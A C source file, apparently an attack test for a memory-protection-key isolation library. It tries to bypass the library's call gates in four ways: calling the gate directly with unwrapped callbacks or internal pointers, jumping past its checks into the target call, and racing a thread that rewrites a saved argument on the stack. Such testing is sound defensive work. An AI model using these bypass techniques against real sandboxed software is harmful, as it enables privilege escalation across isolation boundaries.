/* Around the checks an export's arguments get: the application's function
 * handed to the library unwrapped, or a pointer into the library's own
 * memory, by calling the gate directly, past the step that wraps and
 * checks them (gate_skip callback|pointer); or by a second thread that
 * rewrites the wrapped argument where the gate saved it, on the caller's
 * stack, before the gate reloads it (gate_skip race).  Unwrapped, the
 * library calls the application's function with its own rights.  Or the
 * gate entered at its call of the target, past every check and the
 * WRPKRU, the target taken from libprotect's tables (gate_skip past-check):
 * the library then runs with the application's rights. */
#define _GNU_SOURCE
#include "attack.h"
#include "gate_stub.h"
#include "libprotect_symbols.h"

#include <pthread.h>
#include <stdatomic.h>
#include <time.h>

static int vault_key;

static int library_open_now(void)
{
    uint32_t pkru, edx;
    __asm__ volatile("rdpkru" : "=a"(pkru), "=d"(edx) : "c"(0));
    return !(pkru & (3u << (2 * vault_key)));
}

static void visit(struct vault_cell *on_stack, void *arg)
{
    if (library_open_now())
        read_secret_at(VAULT_DATA, on_stack->secret); /* runs with the library's rights */
}

/* Calls GATE as the stub of the export with ID would, with two arguments. */
static void call_gate(const uint8_t *gate, uint32_t id, uint64_t a0, uint64_t a1)
{
    __asm__ volatile("mov %0, %%r11d\n call *%1" ::"r"(id), "r"(gate), "D"(a0), "S"(a1)
                     : "rax", "rcx", "rdx", "r8", "r9", "r10", "r11", "memory");
}

/* The race: where the export's first argument waits, wrapped, on the
 * calling thread's stack (the slow path's saved registers, found by
 * reading the gate: below the three parked registers). */
static _Atomic(uint64_t *) saved_rdi;
static atomic_int stop; /* set after the last write */

/* The second thread: rewrites the slot for 10 s.  (The calling thread runs
 * nothing but the calls meanwhile: the slot is free stack otherwise.) */
static void *rewrite(void *unused)
{
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    for (unsigned n = 0;; n++) {
        uint64_t *at = atomic_load_explicit(&saved_rdi, memory_order_relaxed);
        if (at)
            *(volatile uint64_t *)at = (uint64_t)(uintptr_t)visit;
        if (n % 4096 == 0) {
            clock_gettime(CLOCK_MONOTONIC, &now);
            if (now.tv_sec - start.tv_sec >= 10)
                break;
        }
    }
    atomic_store(&stop, 1);
    return NULL;
}

/* vault_visit(visit) with the stack pointer at its entry published first. */
__attribute__((noinline)) static void visit_published(void)
{
    uint64_t *rsp;
    __asm__ volatile("mov %%rsp, %0" : "=r"(rsp));
    /* at the export's entry: rsp - 8 (the return address); the gate parks
     * 3 words, then 24 + 192 bytes of saved registers, rdi first */
    atomic_store(&saved_rdi, (uint64_t *)((uint8_t *)rsp - 8 - 24 - 192));
    vault_visit(visit, NULL);
    __asm__ volatile("" ::: "memory"); /* a call, not a tail jump: rsp as computed */
}

int main(int argc, char **argv)
{
    vault_open();
    vault_key = key_of(vault_address(VAULT_DATA));
    const char *mode = argc > 1 ? argv[1] : "";
    uint32_t plain_id, visit_id, hash_id;
    const uint8_t *gate = gate_of((const uint8_t *)vault_counter, &plain_id);
    if (!gate || !gate_of((const uint8_t *)vault_visit, &visit_id) ||
        !gate_of((const uint8_t *)vault_secret_hash, &hash_id))
        blocked("no gate found (not protected?)");
    if (strcmp(mode, "callback") == 0) {
        call_gate(gate, visit_id, (uint64_t)(uintptr_t)visit, 0);
        blocked("the library did not call the function with its rights");
    }
    if (strcmp(mode, "pointer") == 0) {
        call_gate(gate, hash_id, VAULT_DATA, (uint64_t)(uintptr_t)&vault_address(VAULT_HEAP)->counter);
        if (vault_counter(VAULT_HEAP) != 1)
            breached("changed the library's counter through its own pointer argument");
        blocked("the counter did not change");
    }
    if (strcmp(mode, "past-check") == 0) {
        /* test r11, r11; js ...; call r11 */
        static const uint8_t seq[] = {0x4d, 0x85, 0xdb, 0x0f, 0x88};
        const uint8_t *call = NULL;
        for (int i = 0; i < 4096 && !call; i++)
            if (memcmp(gate + i, seq, sizeof seq) == 0 && gate[i + 9] == 0x41 && gate[i + 10] == 0xff &&
                gate[i + 11] == 0xd3)
                call = gate + i + 9;
        const uint8_t *page = libprotect_symbol("protect_gate_page");
        if (!call || !page)
            blocked("the gate's call of its target, or its table, not found");
        const uint64_t *targets = *(const uint64_t *const *)(page + (visit_id >> 20) * 128 + 16);
        uint64_t target = targets[visit_id & 0xfffff] & ~(1ull << 63);
        __asm__ volatile("mov %0, %%r11\n call *%1" ::"r"(target), "r"(call), "D"((uint64_t)(uintptr_t)visit), "S"(0)
                         : "rax", "rcx", "rdx", "r8", "r9", "r10", "r11", "memory");
        blocked("the library did not call the function with its rights");
    }
    if (strcmp(mode, "race") == 0) {
        pthread_t t;
        pthread_create(&t, NULL, rewrite, NULL);
        while (!atomic_load(&stop))
            visit_published();
        pthread_join(t, NULL);
        blocked("the race was not won in 10 s");
    }
    fprintf(stderr, "usage: attack_gate_skip callback|pointer|race\n");
    return 2;
}
